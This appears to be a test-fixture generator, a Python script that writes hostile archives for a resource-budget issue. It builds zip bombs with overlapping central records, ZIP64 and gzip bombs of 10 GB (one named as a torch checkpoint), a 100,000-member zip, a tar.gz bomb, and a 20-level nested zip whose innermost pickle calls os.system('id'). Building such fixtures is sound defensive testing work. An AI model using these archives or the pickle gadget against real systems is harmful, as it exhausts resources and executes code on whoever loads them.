#!/usr/bin/env python3
"""Writes the hostile archives of issue 9 (point 3, "one budget") into DIR.

usage: hostile_archives.py DIR

Standard library only, and fast: a deflate stream of N zero bytes is made
from one 16 MiB block compressed once and flushed with Z_FULL_FLUSH (which
resets the dictionary, so every further block compresses to the same bytes),
repeated; the CRC-32 of N zeros is computed in GF(2), not by reading N bytes.

 1. overlap.zip      16 central records "m00.pkl".."m15.pkl", all pointing at
                     one local header and its 1 GiB deflate stream (1 MB).
 2. four.zip         four non-overlapping members of 1 GiB of zeros each.
 3. bomb10g.zip      one ZIP64 member "data.pkl": 10 GB of zeros, deflated.
 4. members100k.zip  100,000 small deflated pickle members.
 5. nest20.zip       20 levels of zip in zip (each level deflated), a pickle
                     calling os.system at the bottom.
 6. bomb.pt          a gzip of 10 GB of zeros, named as a torch checkpoint.
 7. members.tar.gz   a 1 MB .tar.gz of three 336 MiB members (ustar; zeros).
"""
import os
import struct
import sys
import zlib

BLOCK = 16 << 20  # zeros compressed per block


def gf2_times(mat, vec):
    s, i = 0, 0
    while vec:
        if vec & 1:
            s ^= mat[i]
        vec >>= 1
        i += 1
    return s


def gf2_square(mat):
    return [gf2_times(mat, mat[n]) for n in range(32)]


def crc32_zeros(n, crc=0):
    """zlib.crc32(bytes(n), crc) without reading n bytes."""
    reg = crc ^ 0xFFFFFFFF
    op = [0xEDB88320] + [1 << i for i in range(31)]  # one zero bit
    for _ in range(3):
        op = gf2_square(op)  # one zero byte
    while n:
        if n & 1:
            reg = gf2_times(op, reg)
        n >>= 1
        if n:
            op = gf2_square(op)
    return reg ^ 0xFFFFFFFF


_block = []


def zero_block():
    """BLOCK zeros, raw-deflated and full-flushed: valid after any full flush."""
    if not _block:
        c = zlib.compressobj(9, zlib.DEFLATED, -15)
        c.compress(bytes(BLOCK))
        c.flush(zlib.Z_FULL_FLUSH)
        _block.append(c.compress(bytes(BLOCK)) + c.flush(zlib.Z_FULL_FLUSH))
    return _block[0]


class RawDeflate:
    """A raw deflate stream written to `f`: real bytes, and runs of zeros."""

    def __init__(self, f):
        self.f, self.c, self.size, self.crc, self.n = f, zlib.compressobj(9, zlib.DEFLATED, -15), 0, 0, 0

    def data(self, b):
        self._out(self.c.compress(b) + self.c.flush(zlib.Z_FULL_FLUSH))
        self.crc, self.n = zlib.crc32(b, self.crc), self.n + len(b)

    def zeros(self, n):
        assert n % BLOCK == 0
        for _ in range(n // BLOCK):
            self._out(zero_block())
        self.crc, self.n = crc32_zeros(n, self.crc), self.n + n

    def finish(self):
        self._out(self.c.flush(zlib.Z_FINISH))
        return self.size

    def _out(self, b):
        self.f.write(b)
        self.size += len(b)


def local_header(name, method, crc, csize, usize, zip64=False):
    extra = b""
    if zip64:
        extra = struct.pack("<HHQQ", 1, 16, usize, csize)
        csize = usize = 0xFFFFFFFF
    return struct.pack("<IHHHHHIIIHH", 0x04034B50, 45 if zip64 else 20, 0, method, 0, 0x21,
                       crc, csize, usize, len(name), len(extra)) + name + extra


def central_record(name, method, crc, csize, usize, offset, zip64=False):
    extra = b""
    if zip64:
        extra = struct.pack("<HHQQQ", 1, 24, usize, csize, offset)
        csize = usize = offset = 0xFFFFFFFF
    return struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 45 if zip64 else 20,
                       45 if zip64 else 20, 0, method, 0, 0x21, crc, csize, usize, len(name),
                       len(extra), 0, 0, 0, 0, offset) + name + extra


def end_records(f, count, cd_offset, cd_bytes, zip64=False):
    if zip64:
        at = f.tell()
        f.write(struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, count, count,
                            cd_bytes, cd_offset))
        f.write(struct.pack("<IIQI", 0x07064B50, 0, at, 1))
        count16, cd_bytes, cd_offset = 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF
    else:
        count16 = count
    f.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count16, count16, cd_bytes, cd_offset, 0))


def zip_bytes(members):
    """A small zip in memory: [(name, data)], deflated."""
    out, central = bytearray(), bytearray()
    for name, data in members:
        c = zlib.compressobj(9, zlib.DEFLATED, -15)
        body = c.compress(data) + c.flush()
        crc = zlib.crc32(data)
        offset = len(out)
        out += local_header(name, 8, crc, len(body), len(data)) + body
        central += central_record(name, 8, crc, len(body), len(data), offset)
    cd_offset = len(out)
    out += central
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central),
                       cd_offset, 0)
    return bytes(out)


def zero_zip(path, names, size, shared=False, zip64=False):
    """Members of `size` zeros; `shared`: every record points at one stream."""
    crc = crc32_zeros(size)
    records = []
    with open(path, "wb") as f:
        for i, name in enumerate(names):
            if shared and i > 0:
                records.append((name, records[0][1], records[0][2]))
                continue
            offset = f.tell()
            f.write(local_header(name, 8, crc, 0, size, zip64))  # sizes patched below
            d = RawDeflate(f)
            d.zeros(size)
            csize = d.finish()
            end = f.tell()
            f.seek(offset)
            f.write(local_header(name, 8, crc, csize, size, zip64))
            f.seek(end)
            records.append((name, offset, csize))
        cd_offset = f.tell()
        for name, offset, csize in records:
            f.write(central_record(name, 8, crc, csize, size, offset, zip64))
        end_records(f, len(records), cd_offset, f.tell() - cd_offset, zip64)


def tar_header(name, size):
    h = bytearray(512)
    h[0:len(name)] = name
    h[100:108] = b"0000644\0"
    h[108:116] = b"0000000\0"
    h[116:124] = b"0000000\0"
    h[124:136] = b"%011o\0" % size
    h[136:148] = b"00000000000\0"
    h[156:157] = b"0"
    h[257:265] = b"ustar\x0000"
    h[148:156] = b" " * 8
    h[148:156] = b"%06o\0 " % sum(h)
    return bytes(h)


def main():
    out = sys.argv[1]
    os.makedirs(out, exist_ok=True)
    gib = 1 << 30

    zero_zip(os.path.join(out, "overlap.zip"), [b"m%02d.pkl" % i for i in range(16)], gib,
             shared=True)
    zero_zip(os.path.join(out, "four.zip"), [b"w%d.bin" % i for i in range(4)], gib)
    zero_zip(os.path.join(out, "bomb10g.zip"), [b"data.pkl"], 640 * BLOCK, zip64=True)

    pickle_member = b"\x80\x04K\x01."
    with open(os.path.join(out, "members100k.zip"), "wb") as f:
        c = zlib.compressobj(9, zlib.DEFLATED, -15)
        body = c.compress(pickle_member) + c.flush()
        crc = zlib.crc32(pickle_member)
        central = bytearray()
        for i in range(100_000):
            name = b"m%06d.pkl" % i
            offset = f.tell()
            f.write(local_header(name, 8, crc, len(body), len(pickle_member)) + body)
            central += central_record(name, 8, crc, len(body), len(pickle_member), offset)
        cd_offset = f.tell()
        f.write(central)
        end_records(f, 100_000, cd_offset, len(central), zip64=True)

    payload = b"\x80\x02cposix\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03."
    inner = zip_bytes([(b"data.pkl", payload)])
    for _ in range(19):
        inner = zip_bytes([(b"inner.zip", inner)])
    with open(os.path.join(out, "nest20.zip"), "wb") as f:
        f.write(inner)

    with open(os.path.join(out, "bomb.pt"), "wb") as f:
        f.write(b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff")
        d = RawDeflate(f)
        d.zeros(640 * BLOCK)
        d.finish()
        f.write(struct.pack("<II", d.crc, d.n & 0xFFFFFFFF))

    # tar: three members of 336 MiB of zeros, then the two zero blocks that
    # end a tar: all of it one gzip stream.
    with open(os.path.join(out, "members.tar.gz"), "wb") as f:
        f.write(b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff")
        d = RawDeflate(f)
        for name in (b"a.bin", b"b.bin", b"c.pkl"):
            d.data(tar_header(name, 21 * BLOCK))
            d.zeros(21 * BLOCK)
        d.data(bytes(1024))
        d.finish()
        f.write(struct.pack("<II", d.crc, d.n & 0xFFFFFFFF))
    for name in sorted(os.listdir(out)):
        print("%-16s %12d bytes" % (name, os.path.getsize(os.path.join(out, name))))


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit(__doc__)
    main()
